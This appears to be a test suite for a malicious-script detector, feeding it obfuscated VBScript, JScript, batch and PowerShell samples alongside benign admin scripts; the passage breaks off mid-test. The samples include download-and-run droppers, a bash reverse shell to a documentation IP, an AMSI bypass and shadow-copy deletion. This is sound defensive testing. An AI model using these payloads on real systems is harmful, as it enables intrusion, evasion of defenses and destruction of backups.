/** Script files: what they do decides, in every container, and prose about scripts is no script. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { decodeScripts } from '#inspect/codecs/script-encoder.ts'
import { ourInspector, useInspector } from '#inspect/testing/inspector.ts'
import { writeOle } from '#inspect/testing/ole-writer.ts'
import { docx } from '#inspect/testing/samples.ts'
import { writeZip } from '#inspect/testing/zip-writer.ts'

const { inspect } = useInspector()

function accusations(bytes: Uint8Array): string[] {
  const { findings, obstacle } = inspect(bytes)
  assert.equal(obstacle, null)
  return findings.filter(({ severity }) => severity !== 'notice').map(({ id }) => id.replace('Docvet.', ''))
}

/** Runs the text at an address, as loaders of modules did in old browsers. */
const loader = (address: string): string =>
  `function get(url) { var x = new ActiveXObject("Microsoft.XMLHTTP"); x.open("GET", url, false); x.send(null); return x.responseText }\neval(get(${address}))`

/** In an archive with other files, as software comes. */
const packed = (name: string, text: string): Uint8Array =>
  writeZip([
    { name, data: Buffer.from(text) },
    { name: 'LICENSE', data: Buffer.from('Permission is hereby granted.') },
  ])
const has = (bytes: Uint8Array, id: string): void => assert.ok(accusations(bytes).includes(id), `${accusations(bytes)}`)
const harmless = (bytes: Uint8Array): void => assert.deepEqual(accusations(bytes), [])

const VBS = 'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c calc", 0\r\n'
const DROPPER =
  'var x = new ActiveXObject("MSXML2.XMLHTTP");\nx.open("GET", "http://example.com/a", false);\nx.send();\nvar s = new ActiveXObject("WScript.Shell");\ns.Run("a.exe");\n'

suite('a script that starts programs', () => {
  test('in VBScript', () => has(packed('a.vbs', VBS), 'Script.Program'))
  test('under the name of another language after what looks like data', () => {
    has(packed('a.bat', `{"a":1}\r\n@echo off\r\nmsiexec /q /i \\\\files.example\\a\\b.msi\r\n`), 'Script.Program')
    has(packed('a.txt', `{"use strict";\n${DROPPER}}`), 'Script.Dropper')
  })
  test('in VBScript without a name', () => has(Buffer.from(VBS), 'Script.Program'))
  test('from joined pieces', () => {
    has(
      packed('a.vbs', 'Set s = CreateObject("WScr" & "ipt.Sh" & Chr(101) & "ll")\r\ns.Run StrReverse("clac")\r\n'),
      'Script.Program',
    )
  })
  test('from text that it builds', () =>
    has(packed('a.vbs', 'x = Decode("abc")\r\nExecuteGlobal x\r\n'), 'Script.Program'))
  test('through the management service', () => {
    has(
      packed('a.vbs', 'Set p = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")\r\np.Create "calc.exe"\r\n'),
      'Script.Program',
    )
  })
  test('from a file server outside', () => {
    for (const server of ['files.example', '203.0.113.5', 'a.corp.example.com@80'])
      has(packed('a.bat', `@echo off\r\nmsiexec /q /i \\\\${server}\\a\\b.msi\r\n`), 'Script.Program')
  })
  test('in JavaScript', () =>
    has(packed('a.js', 'var s = WScript.CreateObject("WScript.Shell"); s.Run("calc")'), 'Script.Program'))
  test('in obfuscated JavaScript', () => {
    has(
      packed(
        'a.js',
        'var o = ["lehS.tpircSW"], k = "uR"; var s = new this["Active" + "XObject"](o[0].replace("lehS","llehS").split("").reverse().join("")); s[k + "n"]("calc")'.replace(
          '"uR"',
          '"Ru"',
        ),
      ),
      'Script.Program',
    )
  })
  test('and downloads', () => has(packed('a.js', DROPPER), 'Script.Dropper'))
  test('in an HTML application', () => {
    has(
      packed('a.hta', `<html><hta:application id=a><script language="VBScript">${VBS}</script></html>`),
      'Script.Program',
    )
  })
  test('by a function in another language of the job', () => {
    const job = (script: string) =>
      `<job id="a"><script language="VBScript">Function U(h)\r\nU = StrReverse(h)\r\nEnd Function</script><script language="JScript">${script}</script></job>`
    has(packed('a.wsf', job('var o=new ActiveXObject(U("llehS"));o.Run(U("clac"),0);')), 'Script.Program')
    has(packed('a.wsf', job('var o=WScript.CreateObject(U("a"));o["R"+"un"](U("b"));')), 'Script.Program')
    harmless(packed('a.wsf', job('function start(type, command) { new ActiveXObject(type).Run(command) }')))
  })
  test('in a script component', () => {
    has(
      packed('a.wsf', `<job id="a"><script language="JScript"><![CDATA[${DROPPER}]]></script></job>`),
      'Script.Dropper',
    )
  })
  test('in a script component of two languages', () => {
    const fetching =
      'var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://example.com/a", false); x.send()'
    const starting = 'Set s = CreateObject("WScript.Shell")\ns.Run target'
    has(
      packed(
        'a.wsf',
        `<job><script language="JScript">${fetching}</script><script language="VBScript">${starting}</script></job>`,
      ),
      'Script.Dropper',
    )
  })
  test('in PowerShell, hidden', () => {
    has(
      packed('a.ps1', '$a = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("YQ=="))\niex $a\n'),
      'Script.Program',
    )
  })
  test('in PowerShell, alone', () => {
    has(
      writeZip([
        { name: 'a.ps1', data: Buffer.from('iex (New-Object Net.WebClient).DownloadString("http://example.com/a")') },
      ]),
      'Script.Dropper',
    )
  })
  test('in PowerShell, with nothing but short commands', () => {
    for (const text of ['$a=irm http://example.com/a;iex $a', 'IWR http://example.com/a|IEX', '$b;irm $u|&("iex")'])
      has(writeZip([{ name: 'a.ps1', data: Buffer.from(text) }]), 'Script.Dropper')
  })
  test('in a batch file', () =>
    has(packed('a.bat', '@echo off\r\nmshta http://example.com/a.hta\r\n'), 'Script.Program'))
  test('in a batch file with carets', () =>
    has(packed('a.bat', '@echo off\r\np^o^w^e^r^s^h^e^l^l -w hidden -c calc\r\n'), 'Script.Program'))
})

suite('a batch file that hides its commands in variables', () => {
  const cases: [string, string][] = [
    ['in pieces', '@e^c^h^o off\r\nset a=pow\r\nset b=ersh\r\nset "c=ell"\r\n%a%%b%%c% -nop -w hidden -c calc\r\n'],
    [
      'in parts of others',
      '@echo off\r\nset s=lehsrewop\r\n%s:~8,1%%s:~7,1%%s:~6,1%%s:~-4,1%%s:~4,1%%s:~3,1%hell -enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0\r\n',
    ],
    [
      'in parts of an alphabet with signs',
      'set "q=ahmst:/.%%&"\r\n%q:~2,1%%q:~3,1%%q:~1,1%%q:~4,1%%q:~0,1% http://example.com/a%q:~8,1%20.hta\r\n',
    ],
    ['with replaced letters', 'set x=mZsZhta h@@p://example.com/a.hta\r\nset x=%x:Z=%\r\ncall %x:@=t%\r\n'],
    [
      'in a loop',
      'setlocal enabledelayedexpansion\r\nset s=atshm\r\nset r=\r\nfor %%i in (4 2 3 1 0) do set r=!r!!s:~%%i,1!\r\n!r! http://example.com/a\r\n',
    ],
    [
      'in letters of Windows',
      '%COMSPEC:~-1%cho off\r\n%PUBLIC:~4,1%et q=hta\r\nset m=m\r\nset n=s\r\n%m%%n%%q% http://example.com/a.hta\r\n',
    ],
  ]
  for (const [name, text] of cases) test(name, () => has(packed('a.cmd', text), 'Script.Program'))
})

suite('scripts of administrators and builds', () => {
  const shell = (...lines: string[]) => ['Set sh = CreateObject("WScript.Shell")', ...lines].join('\r\n')
  const cases: [string, string][] = [
    [
      'backup.vbs',
      shell(
        'src = sh.ExpandEnvironmentStrings("%USERPROFILE%") & "\\Documents"',
        'sh.Run "robocopy """ & src & """ ""D:\\Backup"" /MIR", 1, True',
      ),
    ],
    [
      'sources.vbs',
      shell(
        ...['tf get', 'p4 sync', 'cvs update'].map(
          (tool) => `sh.Run "cmd /c CD ""C:\\Program Files\\Tools\\"" & ${tool}"`,
        ),
      ),
    ],
    [
      'drives.vbs',
      shell(
        'sh.Run "net use Z: \\\\files\\share /persistent:yes", 0, True',
        'sh.Run "cmd /c ipconfig /all > C:\\log.txt", 0, True',
      ),
    ],
    [
      'tasks.vbs',
      shell(
        'Set e = sh.Exec("schtasks /query /fo csv")',
        'sh.Run "reg query HKLM\\Software\\A"',
        'sh.Run "msiexec /i ""D:\\setup\\app.msi"" /qn", 1, True',
      ),
    ],
    [
      'build.js',
      'var sh = new ActiveXObject("WScript.Shell");\nvar out = "dist";\nsh.Run("makensis /DOUT=" + out + " setup.nsi", 1, true);\nsh.Run("git describe --tags", 0, true);\n',
    ],
    [
      'build.wsf',
      '<job id="build"><script language="JScript">var sh = new ActiveXObject("WScript.Shell"); sh.Run("7z a out.zip src", 1, true)</script></job>',
    ],
    [
      'mvnw.cmd',
      '@echo off\r\n@setlocal\r\nset MAVEN_CMD_LINE_ARGS=%*\r\nset JAVA_EXE=java.exe\r\nif "%JAVA_HOME%"=="" goto end\r\nset JAVA_EXE=%JAVA_HOME%\\bin\\java.exe\r\n"%JAVA_EXE%" -classpath "%CLASSPATH%" org.gradle.wrapper.GradleWrapperMain %*\r\n:end\r\n',
    ],
    [
      'backup.bat',
      '@echo off\r\nset SRC=%USERPROFILE%\\Documents\r\nset DST=\\\\nas\\backup\r\nrobocopy "%SRC%" "%DST%" /MIR\r\n7z a %DST%\\a.7z "%SRC%"\r\nschtasks /query\r\n%ComSpec% /c echo done\r\n',
    ],
    [
      'clean.ps1',
      'Get-ChildItem C:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item\n"{0} {1}" -f "a", "b"\n',
    ],
  ]
  for (const [name, text] of cases)
    for (const method of ['stored', 'deflated'] as const)
      test(`${name} is harmless (${method})`, () =>
        harmless(
          writeZip([
            { name, data: text, method },
            { name: 'readme.txt', data: 'text' },
          ]),
        ))

  test('that create a shell in a page or document are malicious', () => {
    const shell = '<script>var s = new ActiveXObject("WScript.Shell")</script>'
    has(docx({ 'word/a.html': `<html>${shell}</html>` }), 'Script.ShellObject')
    has(Buffer.from(`<html>${shell}</html>`), 'Script.ShellObject')
  })
  const include = (path: string, rest = ''): Uint8Array =>
    packed(
      'a.js',
      `var s = new ActiveXObject("WScript.Shell");\nvar here = WScript.ScriptFullName;\neval(read(${path}));\n${rest}\nfunction read(name) { var f = new ActiveXObject("Scripting.FileSystemObject").OpenTextFile(name); var t = f.ReadAll(); f.Close(); return t }`,
    )
  test('that include a script beside them are harmless', () => harmless(include('here + "/library.js"')))
  test('but not if it is another file, or text from elsewhere', () => {
    for (const path of ['here + "/picture.png"', 's.ExpandEnvironmentStrings("%TEMP%") + "\\\\temp\\\\a.js"'])
      assert.notDeepEqual(accusations(include(path)), [], path)
    assert.notDeepEqual(accusations(include('here + "/library.js"', 'eval(s.RegRead("HKCU\\\\a"));')), [])
  })
  test('that start another program are suspicious', () =>
    assert.deepEqual(accusations(packed('a.vbs', shell('sh.Run "C:\\App\\app.exe"'))), ['Script.Start']))
  test('that start the program that their reader names are harmless', () =>
    harmless(packed('a.vbs', shell('sh.Run """" & WScript.Arguments(0) & """"'))))
  const threats = [
    'sh.Run "powershell -w hidden -c calc", 0',
    'sh.Run "mshta http://example.com/a"',
    'sh.Run "%TEMP%\\a.exe"',
    'sh.Run "robocopy \\\\192.0.2.1\\a C:\\b"',
    'sh.Run "cmd /c copy a b & rundll32 b,Start", 0',
    'sh.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "C:\\a.exe"',
    'sh.Run "vssadmin delete shadows /all"',
    'sh.Run "cmd /c echo a"',
    'sh.Run Replace("poZwershell -c calc", "Z", "")',
  ]
  for (const line of threats)
    test(`but not ${line}`, () =>
      has(packed('a.vbs', shell(line)), line.includes('http:') ? 'Script.Dropper' : 'Script.Program'))
})

suite('a script that only fetches is suspicious', () => {
  test('in VBScript', () => {
    has(
      packed(
        'a.vbs',
        'Set h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "http://example.com/a"\r\nSet s = CreateObject("ADODB.Stream")\r\ns.SaveToFile "a"\r\n',
      ),
      'Script.Fetch',
    )
  })
  test('in PowerShell among other files', () => {
    has(
      packed(
        'setup.ps1',
        'iex ((New-Object System.Net.WebClient).DownloadString("https://example.com/install.ps1"))\n',
      ),
      'Script.Fetch',
    )
  })
})

test('VBScript in a saved page runs, in a text part or an encoded one', () => {
  const page = (script: string): string => `<html><script language=vbscript>${script}</script></html>`
  const archive = (part: string, body: string): Buffer =>
    Buffer.from(
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\n${part}\r\n\r\n${body}\r\n--x--\r\n`,
    )
  const run = page('CreateObject("WScript.Shell").Run "powershell -w hidden iex(iwr http://192.0.2.1/a)"')
  const plain = 'Content-Type: text/html\r\nContent-Location: http://x/a.htm'
  for (const document of [
    archive(plain, run),
    archive(`Content-Transfer-Encoding: 8bit\r\n${plain}`, run),
    archive(`${plain}\r\nContent-Transfer-Encoding: quoted-printable`, run.replaceAll('=', '=3D')),
    archive(`Content-Transfer-Encoding: base64\r\n${plain}`, Buffer.from(run).toString('base64')),
  ])
    has(document, 'Script.Dropper')
  harmless(archive(plain, page('MsgBox "a"')))
  harmless(archive(plain, `<html>${run.replaceAll('<', '&lt;')}</html>`))
  harmless(archive('Content-Type: text/plain', run))
})

suite('an encoded script', () => {
  test('is decoded', () => assert.equal(decodeScripts('#@~^CAAAAA==\\ko$K6,JAAAAAA==^#~@')[0], 'MsgBox "'))
  test('is decoded without its end', () => assert.equal(decodeScripts('#@~^CAAAAA==\\ko$K6,J')[0], 'MsgBox "'))

  /** Encodes a text with the tables of the decoder, by trying every character. */
  const encode = (text: string): string => {
    let body = ''
    for (const char of text) {
      const code = ['\t', ...Array.from({ length: 96 }, (_, i) => String.fromCharCode(32 + i))].find((one) => {
        const decoded = decodeScripts(`#@~^AAAAAA==${body}${one}`)[0] ?? ''
        return (
          !'<>@'.includes(one) && decoded === text.slice(0, decoded.length) && decoded.length === [...body].length + 1
        )
      })
      body += code ?? char
    }
    return `#@~^AAAAAA==${body}AAAAAA==^#~@`
  }

  test('is judged by what it does', () => {
    const bytes = packed('a.vbe', encode('CreateObject("WScript.Shell").Run "calc"'))
    has(bytes, 'Script.Encoded')
    has(bytes, 'Script.Program')
  })
  test('is only noted if it shows a message or writes to a log', () => {
    const log = 'Set f = CreateObject("Scripting.FileSystemObject").OpenTextFile("C:\\Kiosk\\a.log", 8, True): '
    harmless(packed('kiosk.vbe', encode(`${log}f.WriteLine Now: MsgBox "Hello"`)))
    for (const [name, text] of [
      ['invoice.vbe', 'MsgBox "Hello"'],
      ['a.vbe', `${log.replace('a.log', 'a.vbs')}f.WriteLine Now`],
      ['a.vbe', 'x = "WScript.Shell": Set s = CreateObject(x): MsgBox "Hello"'],
      ['a.vbe', 'CreateObject("Scripting.FileSystemObject").DeleteFolder "C:\\a"'],
      ['a.vbe', 'Set s = CreateObject(WScript.Arguments(0)): MsgBox "Hello"'],
    ] as const)
      has(packed(name, encode(text)), 'Script.Encoded')
  })
  test('is judged although its control characters make it binary', () => {
    const body = encode(`CreateObject("WScript.Shell").Run "calc" '${'e'.repeat(200)}`)
    assert.ok((body.match(/\x7f/g)?.length ?? 0) > 20)
    has(packed('a.vbe', body), 'Script.Program')
  })
})

test('a logon script may start programs of its domain, and connect drives and printers', () => {
  const run = (...commands: string[]): Uint8Array =>
    packed(
      'logon.vbs',
      ['Set s = CreateObject("WScript.Shell")', ...commands.map((each) => `s.Run "${each}", 0`)].join('\n'),
    )
  harmless(run('%LOGONSERVER%\\netlogon\\bginfo.exe \\\\dc01\\netlogon\\a.bgi /silent'))
  harmless(run('rundll32 printui.dll,PrintUIEntry /in /n \\\\print01\\Floor2'))
  // An attacker can choose these names.
  for (const command of [
    '\\\\example.com\\netlogon\\bginfo.exe /silent',
    'wscript \\\\example.com\\sysvol\\example.com\\scripts\\a.vbs',
    'net use H: \\\\fs01.example.com\\home /persistent:no',
  ])
    assert.deepEqual(accusations(run(command)), ['Script.Start'], command)
  for (const commands of [
    ['\\\\203.0.113.5\\netlogon\\bginfo.exe'],
    ['\\\\example.com\\tools\\bginfo.exe'],
    ['msiexec /q /i \\\\example.com\\netlogon\\a.msi'],
    ['rundll32 printui.dll,PrintUIEntry /in /n \\\\203.0.113.5\\a'],
    ['rundll32 \\\\dc01\\netlogon\\a.dll,Start'],
    ['net use H: \\\\example.com\\a', 'H:\\a.exe'],
  ])
    assert.ok(
      accusations(run(...commands)).some((id) => /Program|Dropper/.test(id)),
      commands.join(),
    )
})

test('a script without a name is recognised by its first statement', () => {
  const run = `$b = [Convert]::FromBase64String($a)\nIEX ($w.DownloadString('http://example.com/a'))\n`
  const texts = ['$a = 1', '[Ref].Assembly', 'Write-Output 1', 'param($x)']
  for (const first of texts)
    has(Buffer.from(`${first}\n$w = New-Object Net.WebClient\n$c = 1\n$d = 2\n${run}`), 'Script.Dropper')
})

suite('a text that is a command', () => {
  const encoded = Buffer.from('echo 1', 'utf16le').toString('base64')
  test('is suspicious', () => has(Buffer.from(`powershell.exe -NoP -W Hidden -Enc ${encoded}\n`), 'Script.Command'))
  test('with carets', () => has(Buffer.from('c^m^d /c c^a^l^c\n'), 'Script.Command'))
  test('of the own computer is harmless', () => harmless(Buffer.from('cmd /c dir\n')))
})

suite('a script that does harm by itself', () => {
  const SHADOWS = '@echo off\r\nvssadmin delete shadows /all /quiet\r\n'
  const attacks: [string, string][] = [
    ['a.bat', `${SHADOWS}bcdedit /set {default} recoveryenabled no\r\nwbadmin delete catalog -quiet\r\n`],
    ['a.sh', '#!/bin/bash\n# check\nuname -a\nid\nhostname\nbash -i >& /dev/tcp/198.51.100.9/4444 0>&1\n'],
    [
      'a.ps1',
      "# Helper\n$a='System.Management.Automation.A'+'msiUt'+'ils';$f='a'+'msiInitFailed'\n[Ref].Assembly.GetType($a).GetField($f,'NonPublic,Static').SetValue($null,$true)\n$b=1\n$c=2\n&($d)\n",
    ],
  ]
  for (const [name, text] of attacks)
    test(name, () => {
      has(packed(name, text), 'Script.Program')
      has(Buffer.from(text), 'Script.Program')
    })
  test('in a page, by a published overflow of the engine', () => {
    const page = (code: string) =>
      Buffer.from(
        `<html><body><script language="vbscript">\r\nClass A\r\nPrivate Sub Class_Terminate()\r\nSet b(0)=c(1)\r\nEnd Sub\r\nEnd Class\r\n${code}\r\n</script></body></html>`,
      )
    has(page('sc=Unescape("%u9090%u9090%u9090")'), 'Script.Program')
    harmless(page('document.title = "a"'))
  })
  test('but one step of an administrator is none', () => {
    harmless(packed('a.bat', SHADOWS))
    harmless(packed('a.sh', '#!/bin/bash\nuntil (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done\n'))
  })
  test('but an article that shows it is none', () =>
    harmless(
      Buffer.from(
        '# Recovery\n\nRansomware deletes the copies of files first:\n\n    vssadmin delete shadows /all\n    bcdedit /set {default} recoveryenabled no\n\nWatch for these commands in the log of your computers.\n',
      ),
    ))
})

suite('harmless', () => {
  const cases: [string, Uint8Array][] = [
    [
      'prose about scripts',
      Buffer.from(
        `Attackers use CreateObject("WScript.Shell") to start programs.\n\nThe command powershell -w hidden -enc is a sign of it, and so is mshta http://example.com/a.\n`,
      ),
    ],
    [
      'documentation in Markdown',
      packed(
        'README.md',
        `# Install\n\nRun this:\n\n\`\`\`\npowershell -c "irm https://example.com/install.ps1 | iex"\n${VBS}\`\`\`\n`,
      ),
    ],
    [
      'a build script',
      packed(
        'build.bat',
        '@echo off\r\nsetlocal\r\ncall msbuild app.sln /p:Configuration=Release\r\ncurl -L -o tool.zip https://example.com/tool.zip\r\n',
      ),
    ],
    [
      'a deployment script',
      packed(
        'deploy.ps1',
        'param($Target)\n$env:PATH\nInvoke-WebRequest -Uri https://example.com/a.zip -OutFile a.zip\nExpand-Archive a.zip\n',
      ),
    ],
    [
      'a script that installs from the server of a company',
      packed(
        'client.bat',
        '@echo off\r\nset SRC=\\\\deploy01.corp.example.com\\erp\r\nmsiexec /i "%SRC%\\client.msi" /qn /l*v %TEMP%\\a.log\r\n',
      ),
    ],
    [
      'a script that names its log after the date',
      packed(
        'backup.bat',
        '@echo off\r\nset LOG=C:\\Logs\\%DATE:~-4%%DATE:~3,2%.log\r\npowershell -NoProfile -Command "Send-MailMessage -To it@firma.example -Body (Get-Content \'%LOG%\' | Out-String)"\r\n',
      ),
    ],
    [
      'an HTML application with a button for mail',
      packed(
        'help.hta',
        '<html><hta:application id=a><script language="VBScript">Sub Mail\r\nCreateObject("WScript.Shell").Run "mailto:help@firma.example?subject=PC%20" & pc.innerText\r\nEnd Sub</script><button onclick="Mail">Mail</button></html>',
      ),
    ],
    [
      'a JavaScript library',
      packed(
        'jquery.js',
        '(function(g){ if (window.ActiveXObject) { x = new ActiveXObject("Microsoft.XMLHTTP") } g.eval("a" + "b") })(this)',
      ),
    ],
    ['a loader of files beside it', packed('loader.js', loader('"lib/main.js"'))],
    ['a loader with the settings of a page', packed('loader.js', loader('settings.url()'))],
    ['a script of Node.js', packed('run.js', 'const { exec } = require("child_process"); exec("npm run build")')],
    [
      'a script that reads',
      packed(
        'info.vbs',
        'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2")\r\nFor Each i In w.ExecQuery("Select * from Win32_ComputerSystem")\r\nWScript.Echo i.Name\r\nNext\r\n',
      ),
    ],
    [
      'rules that quote scripts',
      Buffer.from(
        'rule Download {\n  meta:\n    author = "team"\n  strings:\n    $a = "DownloadString(" nocase\n    $b = "-EncodedCommand"\n    $c = "FromBase64String"\n    $d = "Start-Process"\n  condition:\n    2 of them\n}\n',
      ),
    ],
    ['a table with commands', Buffer.from('name,command\nshell,"CreateObject(""WScript.Shell"")"\n')],
  ]
  for (const [name, bytes] of cases) test(name, () => harmless(bytes))
})

suite('a script that runs the text at an address', () => {
  for (const address of [
    '"http://evil.example/a"',
    '"\\\\\\\\evil.example\\\\a.js"',
    '"ht" + "tps:" + "//evil.example/"',
    'WScript.StdIn.ReadLine()',
    'new ActiveXObject("Scripting.FileSystemObject").OpenTextFile("a.txt").ReadAll()',
  ])
    test(address, () => assert.ok(accusations(packed('loader.js', loader(address))).includes('Script.Dropper')))
})

suite('a shell script that starts a program of a file server outside', () => {
  for (const [name, text] of [
    ['a.bat', 'start "" "\\\\198.51.100.7\\pub\\setup.exe"\r\n'],
    ['a.bat', 'set h=198.51.100.7\r\n\\\\%h%\\DavWWWRoot\\a.exe\r\n'],
    ['a.ps1', '& "\\\\files.example@8080\\pub\\setup.exe"\r\n'],
  ] as const)
    test(text, () => assert.ok(accusations(packed(name, text)).includes('Script.Program')))
})

suite('a shell script that downloads and runs a program', () => {
  const alone = (name: string, text: string): Uint8Array => writeZip([{ name, data: Buffer.from(text) }])
  const attacks: [string, Uint8Array][] = [
    [
      'with certutil',
      packed('a.bat', 'certutil -urlcache -split -f http://203.0.113.4/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n'),
    ],
    [
      'with variables and carets',
      packed(
        'a.cmd',
        'set h=http://198.51.100.7\r\nset f=%TEMP%\\s.exe\r\ncert^util -url^cache -f %h%/x.png %f%\r\nstart "" /b %f%\r\n',
      ),
    ],
    [
      'with bitsadmin',
      packed('a.cmd', 'bitsadmin /transfer j http://203.0.113.4/a.exe %temp%\\a.exe && %temp%\\a.exe\r\n'),
    ],
    ['with curl, in the same folder', packed('a.bat', 'curl -s http://203.0.113.4/a.exe -o a.exe\r\na.exe\r\n')],
    [
      'with variables of PowerShell',
      packed(
        'a.ps1',
        '$u = "http://203.0.113.4/a"\n$o = "$env:TEMP\\a.exe"\n(New-Object Net.WebClient).DownloadFile($u, $o)\n& $o\n',
      ),
    ],
    [
      'with Start-Process',
      packed(
        'a.ps1',
        'Invoke-WebRequest http://203.0.113.4/a.exe -OutFile "$env:TEMP\\a.exe"\nStart-Process "$env:TEMP\\a.exe"\n',
      ),
    ],
    ['through a pipe', packed('a.sh', '#!/bin/sh\ncurl -s http://203.0.113.4/a.sh | sh\n')],
    ['for Linux', packed('a', '#!/bin/bash\nwget -q http://203.0.113.9/x -O /tmp/.x\nchmod +x /tmp/.x\n/tmp/.x &\n')],
    [
      'from a service for anybody',
      packed('a.bat', 'curl -o u.exe https://cdn.discordapp.com/attachments/1/2/u.exe\r\nu.exe\r\n'),
    ],
    ['as a picture', packed('a.bat', 'curl -o u.exe https://www.example.com/logo.png\r\nstart u.exe\r\n')],
    [
      'behind the protection',
      packed(
        'a.bat',
        'powershell Add-MpPreference -ExclusionPath C:\\\r\ncurl -o u.exe https://www.example.com/u.exe\r\nu.exe\r\n',
      ),
    ],
    [
      'under the name of a paper',
      alone('Invoice_4711.bat', 'curl -o u.exe https://www.example.com/u.exe\r\nu.exe\r\n'),
    ],
  ]
  for (const [name, bytes] of attacks) test(name, () => has(bytes, 'Script.Dropper'))

  const installers: [string, string][] = [
    [
      'setup.bat',
      'curl -L -o %TEMP%\\tools.exe https://www.example.com/tools.exe\r\nstart /wait %TEMP%\\tools.exe --quiet\r\n',
    ],
    ['setup.sh', '#!/bin/sh\nset -e\ncurl -fsSL https://deb.example.com/setup_20.x | sudo bash -\n'],
    [
      'agent.ps1',
      'Invoke-WebRequest http://10.1.2.3/agent.msi -OutFile C:\\a\\agent.msi\nStart-Process msiexec -ArgumentList "/i C:\\a\\agent.msi /qn"\n',
    ],
    ['status.bat', 'curl -s http://203.0.113.4/status.txt -o status.txt\r\ntype status.txt\r\n'],
    ['invoice-tool.bat', 'curl -o invoices.zip https://www.example.com/invoices.zip\r\ntar -xf invoices.zip\r\n'],
  ]
  for (const [name, text] of installers) test(`${name} is harmless`, () => harmless(alone(name, text)))
})

suite('a text that is a script', () => {
  const attacks: [string, string, string][] = [
    [
      'in batch',
      'Script.Program',
      '@echo off\r\nset a=power\r\nset b=shell\r\n%a%%b% -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A\r\n',
    ],
    [
      'in formatted PowerShell',
      'Script.Dropper',
      '&("{1}{0}" -f "X","IE") (&("{0}{1}" -f "New-Ob","ject") ("{0}{1}" -f "Net.Web","Client")).("Downlo"+"adString").Invoke("http://203.0.113.4/a")\n',
    ],
    [
      'in PowerShell from letters',
      'Script.Dropper',
      '$a="DownloadStr"+"ing"; $w=[Activator]::CreateInstance($t); .($env:ComSpec[4,15,25]-join"") $w.$a("http://203.0.113.4/x")\n',
    ],
    [
      'in VBScript from a changed text',
      'Script.Program',
      'Execute(Replace("CrXeateObjXect(""WScXript.Shell"").RuXn ""calc""","X",""))\r\n',
    ],
    [
      'in VBScript on one line',
      'Script.Program',
      'a="WScript":b=".Shell":Execute "Set s=CreateObject(a&b)":s.Run "powershell -ep bypass -c calc"\r\n',
    ],
    [
      'that downloads',
      'Script.Dropper',
      'bitsadmin /transfer j http://203.0.113.4/a.exe %temp%\\a.exe && %temp%\\a.exe\r\n',
    ],
  ]
  for (const [name, id, text] of attacks) test(name, () => has(Buffer.from(text), id))
  const notes = [
    'curl -LsSf https://www.example.com/install.sh | sh\n',
    '@echo off\r\nset a=b\r\nrobocopy %a% D:\\backup /MIR\r\n',
    "$t = '{0} of {1}' -f 'one', 'two'\nWrite-Output ($t[1,2] -join '')\n",
    'The script begins with @echo off and then runs certutil -urlcache -f http://203.0.113.4/a.exe a.exe & a.exe in a window.\n',
  ]
  for (const text of notes) test(`harmless: ${JSON.stringify(text)}`, () => harmless(Buffer.from(text)))
})

suite('code that a document shows', () => {
  const JSCRIPT = 'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");'
  const TAGS = '<script language="VBScript">\nSet s = CreateObject("WScript.Shell")\ns.Run "calc"\n</script>\n'
  const paragraph = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`
  const escaped = JSCRIPT.replaceAll('<', '&lt;')
  const cases: [string, Uint8Array][] = [
    ['in a text', Buffer.from(`The malware calls ${JSCRIPT} and then exits.\n`)],
    ['in a Word document', docx({ 'word/document.xml': `<w:document>${paragraph(JSCRIPT)}</w:document>` })],
    ['in a mail', Buffer.from(`From: a@example.com\nSubject: alert\n\nSnippet: ${JSCRIPT}\n`)],
    [
      'in a mail, with tags',
      Buffer.from(`From: a@example.com\nSubject: help\nMIME-Version: 1.0\n\nI use this in my application:\n${TAGS}`),
    ],
    ['in a page', Buffer.from(`<!DOCTYPE html><html><body><pre><code>${escaped}</code></pre></body></html>`)],
    [
      'in a page with scripts and data',
      Buffer.from(
        `<!DOCTYPE html><html><body><pre>${escaped}</pre><script>count()</script><script type="application/json">{"code":"new ActiveXObject('WScript.Shell')"}</script></body></html>`,
      ),
    ],
    ['in data', Buffer.from(JSON.stringify({ alert: "new ActiveXObject('WScript.Shell').Run(x)" }))],
    ['in Markdown', Buffer.from(`# Applications\n\n\`\`\`html\n${TAGS}\`\`\`\n`)],
    ['in RTF', Buffer.from(`{\\rtf1 A script:\\par\n${TAGS.replaceAll('\n', '\\par\n')}}`)],
    [
      'in a stream of a compound file',
      writeOle({ streams: { Contents: Buffer.from(`\x00\x01${TAGS.replaceAll('\n', '\r')}`) } }),
    ],
  ]
  for (const [name, bytes] of cases) test(`${name} is harmless`, () => harmless(bytes))

  const application = `<html><hta:application id=a>${TAGS}</html>`
  const hidden = '<html><script>new this["Active" + "XObject"]("WScr" + "ipt.Shell").Run("calc")</script></html>'
  test('runs in a page', () => has(Buffer.from(hidden), 'Script.ShellObject'))
  test('runs in an HTML application below a sentence', () =>
    has(Buffer.from(`This is a text of five words.\n${application}`), 'Script.HostedProgram'))
  test('runs in an HTML application below other data', () => {
    has(Buffer.from(`%PDF-1.4\n1 0 obj\n<< >>\nendobj\n%%EOF\n${application}`), 'Script.HostedProgram')
    has(writeZip([{ name: 'a.hta', data: Buffer.from(`GIF89a\0\0\0${application}`) }]), 'Script.HostedProgram')
  })
  test('runs in a component below lines that look like another language', () => {
    const component = `<job id="a"><script language="JScript">/*\n--- a\n*/\n${JSCRIPT}</script></job>`
    has(packed('a.wsf', component), 'Script.Program')
  })
})

suite('a script without a telling word', () => {
  test('in JavaScript from numbers', () => {
    const codes = [...'new ActiveXObject("WScript.Shell").Run("powershell -enc AAAA")'].map((c) => c.charCodeAt(0) * 3)
